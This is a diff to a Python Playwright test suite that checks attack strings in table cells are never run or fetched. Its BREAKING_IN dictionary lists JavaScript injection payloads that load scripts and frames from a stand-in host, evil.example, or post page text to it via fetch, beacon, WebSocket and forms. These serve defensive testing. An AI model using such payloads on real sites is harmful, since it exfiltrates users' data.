@@ -10,7 +10,7 @@ import pytest
 from playwright.sync_api import Browser, Page
 from playwright.sync_api import Error as PlaywrightError
 
-from tests.browser.conftest import OpenPage, settle
+from tests.browser.conftest import OpenPage, go, settle
 from tests.web import attacks, plan
 from tests.web.served import Served, serving
 
@@ -44,8 +44,9 @@ def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
 def test_attacks_in_cells_are_never_run_fetched_linked_or_formatted(open_page: OpenPage, attacked: Served) -> None:
     """`open_page` also fails on any request to another host, any dialog and any script error."""
     seen: set[int] = set()
+    page = open_page(attacked)
     for address in ADDRESSES:
-        page = open_page(attacked, address)
+        go(page, attacked, address)
         _open_popovers_and_tooltips(page)
         body = page.locator("body")
         links = body.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
@@ -65,7 +66,6 @@ def test_attacks_in_cells_are_never_run_fetched_linked_or_formatted(open_page: O
             for typed in formatted:  # unchanged, with its punctuation
                 assert _words(typed)[:20] in _words(inside), (tag, typed)
         seen |= {int(mark[2:-1]) for mark in attacks.MARK.findall(body.inner_text())}
-        page.close()
     assert {number % len(attacks.ATTACKS) for number in seen} == set(range(len(attacks.ATTACKS)))
 
 
@@ -90,30 +90,30 @@ def _words(text: str) -> str:
 
 
 BREAKING_IN = {
-    "a picture from elsewhere": "const one = new Image(); one.src = 'http://evil.example/x.png';"
-    "document.body.append(one)",
-    "a script from elsewhere": "const one = document.createElement('script'); one.src = 'http://evil.example/x.js';"
-    "document.body.append(one)",
-    "a script in the page": "const one = document.createElement('script'); one.textContent = 'window.broken = 1';"
-    "document.body.append(one)",
-    "a handler": "const one = document.createElement('div'); one.setAttribute('onclick', 'window.broken = 1');"
-    "document.body.append(one); one.click()",
-    "a javascript: link": "const one = document.createElement('a'); one.href = 'javascript:window.broken=1';"
-    "document.body.append(one); one.click()",
+    "a picture from elsewhere": "const added = new Image(); added.src = 'http://evil.example/x.png';"
+    "document.body.append(added)",
+    "a script from elsewhere": "const added = document.createElement('script'); added.src = 'http://evil.example/x.js';"
+    "document.body.append(added)",
+    "a script in the page": "const added = document.createElement('script'); added.textContent = 'window.broken = 1';"
+    "document.body.append(added)",
+    "a handler": "const added = document.createElement('div'); added.setAttribute('onclick', 'window.broken = 1');"
+    "document.body.append(added); added.click()",
+    "a javascript: link": "const added = document.createElement('a'); added.href = 'javascript:window.broken=1';"
+    "document.body.append(added); added.click()",
     "eval": "setTimeout('window.broken = 1', 0)",
     "a letter home": "fetch('http://evil.example/', {method: 'POST', body: document.body.innerText}).catch(() => 0)",
     "a beacon": "navigator.sendBeacon('http://evil.example/', 'x')",
     "a socket": "try { new WebSocket('ws://evil.example/') } catch {}",
-    "a form": "const one = document.createElement('form'); one.action = 'http://evil.example/'; one.method = 'post';"
-    "document.body.append(one); one.submit()",
-    "a frame": "const one = document.createElement('iframe'); one.src = 'http://evil.example/';"
-    "document.body.append(one)",
-    "another base": "const one = document.createElement('base'); one.href = 'http://evil.example/';"
-    "document.head.append(one); const two = new Image(); two.src = 'x.png'; document.body.append(two)",
-    "a plug-in": "const one = document.createElement('object'); one.data = 'http://evil.example/x.swf';"
-    "document.body.append(one)",
-    "a style from elsewhere": "const one = document.createElement('link'); one.rel = 'stylesheet';"
-    "one.href = 'http://evil.example/x.css'; document.head.append(one)",
+    "a form": "const added = document.createElement('form'); added.action = 'http://evil.example/';"
+    "added.method = 'post'; document.body.append(added); added.submit()",
+    "a frame": "const added = document.createElement('iframe'); added.src = 'http://evil.example/';"
+    "document.body.append(added)",
+    "another base": "const added = document.createElement('base'); added.href = 'http://evil.example/';"
+    "document.head.append(added); const image = new Image(); image.src = 'x.png'; document.body.append(image)",
+    "a plug-in": "const added = document.createElement('object'); added.data = 'http://evil.example/x.swf';"
+    "document.body.append(added)",
+    "a style from elsewhere": "const added = document.createElement('link'); added.rel = 'stylesheet';"
+    "added.href = 'http://evil.example/x.css'; document.head.append(added)",
 }
 
 
